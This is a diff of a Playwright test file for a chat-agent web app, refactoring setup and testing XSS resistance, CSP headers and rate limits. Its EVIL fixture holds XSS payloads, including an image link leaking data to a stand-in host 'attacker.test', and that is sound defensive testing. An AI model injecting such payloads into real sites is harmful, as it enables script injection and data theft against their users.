@@ -1,13 +1,10 @@
 import { agents } from '@millrace/contract'
-import { expect, type Page, test } from '@playwright/test'
-import { makePublicAgent, openSignedIn, ownerClient } from './support/people.ts'
-import { type Server, startServer } from './support/server.ts'
+import { expect, type Page } from '@playwright/test'
+import { atDesk, test } from './support/desk.ts'
+import { makePublicAgent } from './support/people.ts'
 
-let server: Server
-test.beforeAll(async () => {
-  server = await startServer()
-})
-test.afterAll(() => server.close())
+const desk = atDesk()
+const { client, open } = desk
 
 const EVIL = `The secret of the mill. <script>window.hacked=1</script> <img src="http://attacker.test/x.png" onerror="window.hacked=2">
 <svg onload="window.hacked=3"></svg> [click](javascript:window.hacked=4) ![pixel](http://attacker.test/leak?q=secret) <style>body{display:none}</style>`
@@ -16,13 +13,12 @@ const EVIL = `The secret of the mill. <script>window.hacked=1</script> <img src=
 async function watch(page: Page) {
   const away: string[] = []
   page.on('request', (request) => {
-    if (!request.url().startsWith(server.url) && !request.url().startsWith('data:')) away.push(request.url())
+    if (!request.url().startsWith(desk.url) && !request.url().startsWith('data:')) away.push(request.url())
   })
   return { away, hacked: () => page.evaluate('window.hacked ?? null') }
 }
 
 test('hostile knowledge, names and answers do nothing in the visitor’s browser', async ({ page }) => {
-  const { client } = await ownerClient(server)
   const agent = await makePublicAgent(client, { '<img src=x onerror=alert(1)>': EVIL })
   await client.call(agents.update, {
     params: { id: agent.id },
@@ -33,7 +29,7 @@ test('hostile knowledge, names and answers do nothing in the visitor’s browser
     },
   })
   const seen = await watch(page)
-  await page.goto(`${server.url}/chat-public/${agent.publicId}`)
+  await page.goto(`${desk.url}/chat-public/${agent.publicId}`)
   await page.getByRole('textbox', { name: 'Message' }).fill('What is the secret of the mill?')
   await page.getByRole('button', { name: 'Send' }).click()
   await expect(page.getByRole('group', { name: 'Messages' })).toContainText('The secret of the mill')
@@ -48,12 +44,11 @@ test('hostile knowledge, names and answers do nothing in the visitor’s browser
 })
 
 test('nor in the console', async ({ page }) => {
-  const { client, token } = await ownerClient(server)
   const { items } = await client.call(agents.list, { query: {} })
   const seen = await watch(page)
-  await openSignedIn(page, { server, token, path: '/console' })
+  await open(page, '/console')
   await expect(page.getByText('<b onmouseover=alert(1)>Desk</b>').first()).toBeVisible()
-  await page.goto(`${server.url}/console/agent/setting/${items[0]!.id}`)
+  await page.goto(`${desk.url}/console/agent/setting/${items[0]!.id}`)
   await expect(page.getByLabel('Name', { exact: true })).toHaveValue('<b onmouseover=alert(1)>Desk</b>')
   expect(await seen.hacked()).toBeNull()
   expect(seen.away).toEqual([])
@@ -61,7 +56,7 @@ test('nor in the console', async ({ page }) => {
 
 test('pages carry a strict policy and can’t be framed', async ({ request }) => {
   for (const path of ['/console', '/chat-public/00000000-0000-4000-8000-000000000000']) {
-    const response = await request.get(server.url + path, { headers: { accept: 'text/html' } })
+    const response = await request.get(desk.url + path, { headers: { accept: 'text/html' } })
     const policy = response.headers()['content-security-policy']!
     expect(policy).toContain("default-src 'none'")
     expect(policy).toContain("frame-ancestors 'none'")
@@ -74,9 +69,8 @@ test('pages carry a strict policy and can’t be framed', async ({ request }) =>
 })
 
 test('a visitor who writes too much is told how long to wait', async ({ page }) => {
-  const { client } = await ownerClient(server)
   const agent = await makePublicAgent(client, { Note: 'The gate opens at seven.' })
-  await page.goto(`${server.url}/chat-public/${agent.publicId}`)
+  await page.goto(`${desk.url}/chat-public/${agent.publicId}`)
   const field = page.getByRole('textbox', { name: 'Message' })
   for (let i = 0; i <= 20; i += 1) {
     await field.fill(`When does the gate open? ${i}`)
